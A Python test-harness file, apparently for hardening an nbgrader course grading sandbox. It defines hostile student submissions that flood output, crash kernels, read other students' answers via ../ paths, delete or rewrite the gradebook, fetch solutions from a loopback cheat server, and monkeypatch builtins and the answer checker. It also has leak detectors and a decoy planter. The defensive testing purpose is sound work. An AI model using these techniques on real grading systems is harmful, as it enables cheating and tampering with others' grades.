        HostileCase("giant-output", "runaway", _append_to_last_answer(GIANT_OUTPUT),
                    Expectation("graded", max_graded_bytes=small), "one 50 MB print"),
        HostileCase("fill-the-disk", "runaway", _append_to_last_answer(FILL_DISK),
                    Expectation("graded", output_pattern=r"disk full after \d+ MiB: No space left on device"),
                    "480 MiB in 10 MB files into the working folder (stopped at its 128 MiB tmpfs)"),
        HostileCase("output-flood", "runaway", _append_to_last_answer(OUTPUT_FLOOD),
                    Expectation("graded", max_graded_bytes=small), "a million short prints (2 MB in all)"),
        HostileCase("endless-flood", "runaway", _append_to_last_answer(ENDLESS_FLOOD),
                    Expectation("graded-with-reason", reason=TIMED_OUT, max_graded_bytes=small),
                    "100-byte lines until the cell timeout: far past any output limit"),
        HostileCase("os-exit", "crash", _prepend_to_last_answer(OS_EXIT),
                    Expectation("graded-with-reason", answers="all-but-last", reason=KERNEL_DIED),
                    "os._exit(1) after correct answers"),
        HostileCase("sys-exit", "crash", _prepend_to_last_answer(SYS_EXIT), lost_last,
                    "sys.exit(): IPython turns it into an error"),
        HostileCase("segfault", "crash", _prepend_to_last_answer(SEGFAULT),
                    Expectation("graded-with-reason", answers="all-but-last", reason=KERNEL_DIED),
                    "ctypes.string_at(0)"),
        HostileCase("kernel-kill", "crash", _prepend_to_last_answer(KERNEL_KILL),
                    Expectation("graded-with-reason", answers="all-but-last", reason=KERNEL_DIED),
                    "SIGKILL to its own kernel"),
        HostileCase("os-exit-between-answers", "crash", _crash_cell_after_first_test(OS_EXIT),
                    Expectation("graded-with-reason", reason=KERNEL_DIED),
                    "a cell of its own calls os._exit(1) between correct answers: later tests still score"),
        HostileCase("segfault-between-answers", "crash", _crash_cell_after_first_test(SEGFAULT),
                    Expectation("graded-with-reason", reason=KERNEL_DIED),
                    "a cell of its own segfaults between correct answers: later tests still score"),
        HostileCase("read-others-relative", "attack", _attack_build(READ_OTHERS_RELATIVE), attack,
                    "copies other students' answers through ../../../submitted"),
        HostileCase("read-others-absolute", "attack", _attack_build(READ_OTHERS_ABSOLUTE), attack,
                    "copies other students' answers through absolute paths and a search"),
        HostileCase("read-source-notebook", "attack", _attack_build(READ_SOURCE), attack,
                    "runs the solutions and prints the hidden tests from assignments/ or git"),
        HostileCase("read-gradebook", "attack", _attack_build(READ_GRADEBOOK), attack,
                    "queries the gradebook's cells and grades"),
        HostileCase("delete-gradebook", "attack", _attack_build(DELETE_GRADEBOOK), attack,
                    "deletes the gradebook and writes garbage in its place"),
        HostileCase("rewrite-gradebook", "attack", _attack_build(REWRITE_GRADEBOOK), attack,
                    "gives everyone full manual marks and 1000 automatic points"),
        HostileCase("write-outside-scratch", "attack", _attack_build(WRITE_OUTSIDE.replace("{marker}", MARKER_PREFIX)),
                    attack, "creates marker files in class/ and the repository, overwrites others' submissions"),
        HostileCase("network-loopback", "attack", _attack_build(NETWORK.replace("{port}", str(int(cheat_port)))), attack,
                    "fetches answers from a cheat server on the host's loopback"),
        HostileCase("always-equal", "attack", build_always_equal, Expectation("graded", answers="none"),
                    "answers equal to anything"),
        HostileCase("redefine-names", "attack", _tests_attack_build(REDEFINE_NAMES), Expectation("graded", answers="none"),
                    "shadows type, sorted, all and len in the notebook's namespace"),
        HostileCase("tamper-builtins", "attack", _tests_attack_build(TAMPER_BUILTINS),
                    Expectation("graded-with-reason", answers="none", reason=r"built-in names .*restored before the tests: sorted, type"),
                    "replaces builtins.type and builtins.sorted, which hidden tests reach through `import builtins`"),
        HostileCase("replace-checker", "attack", _tests_attack_build(REPLACE_CHECKER), Expectation("graded", answers="none"),
                    "replaces the answer checker the tests call (its judge, and the module in sys.modules) with one "
                    "that accepts anything"),
        HostileCase("tamper-guard", "attack", _tests_attack_build(TAMPER_BUILTINS + DISARM_GUARD),
                    Expectation("graded-with-reason", answers="none", reason=r"builtins guard was removed or replaced"),
                    "replaces the builtins, then the grader's guard that would restore them"),
    ]


def case_named(name: str, cases: list[HostileCase] | None = None) -> HostileCase:
    """The case called ``name``; a KeyError names the valid ones."""
    cases = cases if cases is not None else hostile_cases()
    for case in cases:
        if case.name == name:
            return case
    raise KeyError(f"no hostile case {name!r}; known: {', '.join(c.name for c in cases)}")


# --- a class with hostile students ------------------------------------------------------------------------------

@dataclass
class HostileClass:
    """A class folder with one released assignment, clean demo students and hostile ones, all collected."""

    class_dir: Path
    assignment: str
    cases: list[HostileCase]
    clean_students: list[str]

    @property
    def students(self) -> list[str]:
        return self.clean_students + [case.name for case in self.cases]


def build_class(class_dir: Path, cases: list[HostileCase] | None = None, *, assignment: str = ASSIGNMENT,
                clean: tuple[str, ...] = CLEAN_BEHAVIOURS, cheat_port: int = DEFAULT_CHEAT_PORT) -> HostileClass:
    """Release ``assignment`` into a new class folder, let clean demo students and hostile cases fetch,
    answer and submit through nbgrader's exchange, and collect. Nothing is graded.

    The gradebook is private to the folder (``COURSE_DB_URL`` is ignored).
    ``cases=None`` means every case of :func:`hostile_cases`.
    """
    import nbformat

    from course.grading.run import verbs
    from course.grading.classdir import open_api, source_notebook

    cases = hostile_cases(cheat_port) if cases is None else cases
    for behaviour in clean:
        if behaviour not in demo.BEHAVIOURS:
            raise ValueError(f"unknown clean behaviour {behaviour!r}; known: {', '.join(demo.BEHAVIOURS)}")
    class_dir = Path(class_dir).resolve()
    class_dir.mkdir(parents=True, exist_ok=True)
    api = open_api(class_dir, create=True, private_gradebook=True)
    verbs.release(assignment, due=demo.DUE, api=api)
    source_nb = nbformat.read(source_notebook(assignment), as_version=4)
    homes = class_dir / "students"
    clean_students = [s for s in demo.STUDENTS if s.behaviour in clean]
    for order, student in enumerate(clean_students):
        demo.take_assignment(api, assignment, source_nb, student, order, homes)
    for order, case in enumerate(cases):
        student = demo.DemoStudent(case.name, case.name, "Hostile case", "hostile")
        path = demo.fetch(api, assignment, student, homes / case.name)
        released = nbformat.read(path, as_version=4)
        case.build(released, source_nb, path.parent)
        demo.submit(api, assignment, student, homes / case.name, demo.DUE - dt.timedelta(hours=order + 1))
    verbs.collect(assignment, api=api, trust_student_timestamps=True)  # demo calendar times
    return HostileClass(class_dir, assignment, list(cases), [s.student_id for s in clean_students])


# --- a second copy of the course's secrets, elsewhere on the machine ----------------------------------------------

DECOY_STUDENT = "decoy-other-student"


def plant_decoy(root: Path, source_nb_path: Path, gradebook: Path | None = None, *,
                assignment: str = ASSIGNMENT) -> dict[str, Path]:
    """Lay out, under ``root``, what another checkout of the course on the same machine would hold:
    the source notebook (solutions and hidden tests) in ``assignments/``, a class folder with another
    student's submission (the solutions) and a copy of ``gradebook``, every file world-readable.

    The attacks look for exactly these (``find_dirs`` searches ``/var/tmp``, ``/work``, ``/home``...).
    The grading repository and class folder are always hidden from the sandbox; a copy like this one
    is what a denylist forgets and an allowlist never mounts. Returns the planted files by role.
    """
    root = Path(root)
    planted = {
        "source": root / "assignments" / assignment / f"{assignment}.ipynb",
        "submission": root / "class" / "submitted" / DECOY_STUDENT / assignment / f"{assignment}.ipynb",
    }
    for path in planted.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(source_nb_path, path)
    if gradebook is not None:
        planted["gradebook"] = root / "class" / "gradebook.db"
        shutil.copyfile(gradebook, planted["gradebook"])
    for folder, dirs, files in os.walk(root):
        os.chmod(folder, 0o755)
        for name in files:
            os.chmod(os.path.join(folder, name), 0o644)
    return planted


def readable_by_anyone(path: Path) -> bool:
    """Could any local user read ``path``: world-readable, and every folder above it world-searchable?"""
    path = Path(path).resolve()
    if not path.stat().st_mode & stat.S_IROTH:
        return False
    return all(parent.stat().st_mode & stat.S_IXOTH for parent in path.parents)


# --- checking what came out -------------------------------------------------------------------------------------

def own_output_text(nb) -> str:
    """The text of every output of the cells a student writes or may change (not the test cells), normalised.

    Test cells are left out: their failing hidden tests legitimately show in
    the autograded notebook (the feedback step removes them).
    """
    from course.grading.release.leaks import normalise, output_lines

    lines = []
    for cell in nb.cells:
        if demo.is_test(cell):
            continue
        for output in cell.get("outputs", []):
            lines.extend(output_lines(output))
    return "\n".join(normalise(line) for line in lines)


def leaked_secrets(graded_nb, source_nb, submitted_nb=None) -> list[str]:
    """Lines of solutions, hidden tests or model answers found in the outputs of the student's own cells.

    ``submitted_nb`` is what the student handed in: its own words are not a leak.
    Other students' answers are caught too, because a correct answer is made of
    solution lines.
    """
    from course.grading.release.leaks import find_leaks, notebook_text, secret_lines

    allowed = notebook_text(submitted_nb) if submitted_nb is not None else ""
    return find_leaks(own_output_text(graded_nb), secret_lines(source_nb, allowed=allowed))


class CheatServer:
    """A loopback TCP server that hands every caller the complete solutions, and records who called.

    The network attack connects to it; a sandbox without network must keep
    ``connections`` empty. Use as a context manager::

        with CheatServer(port, payload) as server:
            ...
        assert server.connections == []
    """

    def __init__(self, port: int, payload: str, host: str = "127.0.0.1"):
        self.address = (host, port)
        self.payload = payload.encode("utf-8")
        self.connections: list[str] = []
        self._socket: socket.socket | None = None
        self._thread: threading.Thread | None = None

    @staticmethod
    def solutions_payload(source_nb) -> str:
        """The source notebook's solution cells, as notebook JSON (what the attack knows how to read)."""
        cells = [{"cell_type": "code", "metadata": {"nbgrader": {"solution": True, "grade_id": demo._meta(c)["grade_id"]}},
                  "source": demo.solution_text(c)} for c in source_nb.cells if demo.is_code_answer(c)]
        return json.dumps({"cells": cells})

    def __enter__(self) -> "CheatServer":
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._socket.bind(self.address)
        self._socket.listen(16)
        self._socket.settimeout(0.2)  # accept() wakes up to notice __exit__ (closing alone does not wake it)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, name="cheat-server", daemon=True)
        self._thread.start()
        return self

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self._socket.accept()
            except TimeoutError:
                continue
            except OSError:  # closed by __exit__
                return
            with conn:
                conn.settimeout(2)
                try:
                    hello = conn.recv(1024).decode("utf-8", "replace").strip()
                except OSError:
                    hello = ""
                self.connections.append(f"{peer[0]}:{peer[1]} {hello}")
                try:
                    conn.sendall(self.payload)
                except OSError:
                    pass

    def __exit__(self, *exc) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=5)
        if self._socket is not None:
            self._socket.close()
